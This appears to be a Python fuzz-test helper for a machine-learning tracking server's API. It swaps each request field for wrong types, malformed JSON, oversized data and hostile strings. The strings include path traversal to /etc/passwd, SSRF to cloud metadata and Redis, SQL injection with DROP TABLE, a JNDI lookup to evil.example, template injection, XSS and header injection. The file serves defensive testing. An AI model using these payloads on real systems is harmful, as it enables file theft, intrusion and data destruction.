"""Hostile values, and the places of a request where they are put."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, quote_from_bytes

from attrs import frozen

__all__ = ["HEAVY", "NO_TEXT_AT_ALL", "TEXTS", "Raw", "Shot", "body_of", "query_of", "shots_at"]


@frozen
class Raw:
    """A piece of JSON that `json.dumps` would not write."""

    text: str


TEXTS = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%252e%252e%252fsecret.txt",
    "..\\..\\secret.txt",
    "....//....//secret.txt",
    "/etc/passwd",
    "file:///etc/passwd",
    "file://localhost/etc/passwd",
    "//evil.example/share",
    "\\\\evil.example\\share",
    "C:\\Windows\\win.ini",
    "http://169.254.169.254/latest/meta-data",
    "gopher://127.0.0.1:6379/_INFO",
    "mlflow-artifacts:/../secret.txt",
    "mlflow-artifacts://evil.example/x",
    "runs:/../x",
    "models:/x@../..",
    "' OR '1'='1",
    "a'; DROP TABLE runs; --",
    'metrics."a" > 1 AND (' * 50,
    "metrics.a > 1e999 and params.b in (" + "'x'," * 3000 + "'x')",
    "{0.__class__.__mro__}",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "x\r\nSet-Cookie: a=b",
    "\u202egnp.exe",
    "a\u0300" * 400,
    " ",
    "-1",
    "9" * 30,
    "9" * 5000,
    "NaN",
    "0x10",
    "1e5",
    "٣",
)
"""Texts that some field somewhere may take, and that must do no harm there."""

NO_TEXT_AT_ALL = (Raw('"a\\u0000b"'), Raw('"\\ud800"'), Raw('"\\udc00\\ud800"'), Raw("NaN"), Raw("-Infinity"), Raw("1e400"), Raw('"\x01"'))
"""What no request may hold anywhere."""

HEAVY = ("x" * 300_000, Raw("[" * 900 + "]" * 900), Raw('{"a":' * 900 + "1" + "}" * 900))

_NOT = {
    str: (7, 1.5, True, [], {}, ["x"], {"a": "b"}, Raw("1" * 400)),
    bool: ("yes", 7, [], {}),
    int: (
        "x",
        "1.0",
        "1_0",
        " 1",
        True,
        [],
        {},
        0.5,
        Raw("9223372036854775808"),
        Raw("-9223372036854775809"),
        Raw("1e300"),
        Raw("9" * 400),
    ),
    float: ("x", True, [], {}, [1.5]),
    list: ("x", 7, True, {}, {"a": "b"}, [None], [[]], [7]),
    dict: ("x", 7, True, [], ["x"]),
}
_NAMES_OF_ENUMS = {"status", "view", "view_type", "run_view_type"}  # a name or number that is not known counts as not given
_FREE = {"value"}  # of metrics, where every number and its text is one


@frozen
class Shot:
    """One part of a request and what it is replaced by. `must_fail` is unset where some field may rightly take the value."""

    place: tuple[Any, ...]
    value: Any
    must_fail: bool

    def __str__(self) -> str:
        shown = self.value.text if isinstance(self.value, Raw) else json.dumps(self.value)
        return f"{'.'.join(map(str, self.place))} = {shown[:60]}"

    def at(self, form: Any) -> Any:
        """The request with the part replaced."""
        return _replaced(form, self.place, self.value)


def shots_at(form: dict[str, Any]) -> Iterator[Shot]:
    """Every part of a request, replaced by everything that it is not and by everything that may do harm."""
    for place, value in _places(form):
        name = next((part for part in reversed(place) if isinstance(part, str)), "")
        if value is None:
            continue
        if name not in _NAMES_OF_ENUMS:
            for other in _NOT[type(value)]:
                if not (name in _FREE and isinstance(value, float) and isinstance(other, Raw)):
                    yield Shot(place, other, must_fail=True)
        for no_text in NO_TEXT_AT_ALL:
            yield Shot(place, no_text, must_fail=True)
        for heavy in HEAVY:
            yield Shot(place, heavy, must_fail=isinstance(heavy, Raw) and name not in _NAMES_OF_ENUMS)
        if isinstance(value, str):
            for text in TEXTS if len(place) == 1 else TEXTS[len(str(place)) % 4 :: 4]:
                yield Shot(place, text, must_fail=False)
        if isinstance(value, int) and not isinstance(value, bool):
            for number in (-1, 0, 2**63 - 1, -(2**63), "9223372036854775807"):
                yield Shot(place, number, must_fail=False)


def body_of(form: Any) -> bytes:
    """The JSON of a request, with raw pieces as they are."""
    raw: list[str] = []

    def mark(thing: Any) -> str:
        raw.append(thing.text)
        return f"\ue000{len(raw) - 1}\ue000"

    text = json.dumps(form, default=mark, ensure_ascii=False)
    for at, piece in enumerate(raw):
        text = text.replace(f'"\ue000{at}\ue000"', piece)
    return text.encode("utf-8", "surrogatepass")


def query_of(form: dict[str, Any]) -> str:
    """The request as parameters of an address; what JSON escapes is percent-encoded."""
    return "&".join(
        f"{name}={_in_query(one)}"
        for name, value in form.items()
        if value is not None
        for one in (value if isinstance(value, list) else [value])
    )


def _in_query(value: Any) -> str:
    if isinstance(value, Raw):
        if value.text.startswith('"'):
            return {'"a\\u0000b"': "a%00b", '"\\ud800"': "%ed%a0%80"}.get(value.text, "%ff%c0%ae")
        return quote(value.text, safe="")
    if isinstance(value, bool):
        return str(value).lower()
    return quote_from_bytes(str(value).encode("utf-8", "surrogatepass"), safe="")


def _places(form: Any, above: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    parts = form.items() if isinstance(form, dict) else enumerate(form)
    for name, value in parts:
        yield (*above, name), value
        if isinstance(value, dict | list):
            yield from _places(value, (*above, name))


def _replaced(form: Any, place: tuple[Any, ...], value: Any) -> Any:
    if not place:
        return value
    copy = dict(form) if isinstance(form, dict) else list(form)
    copy[place[0]] = _replaced(form[place[0]], place[1:], value)
    return copy
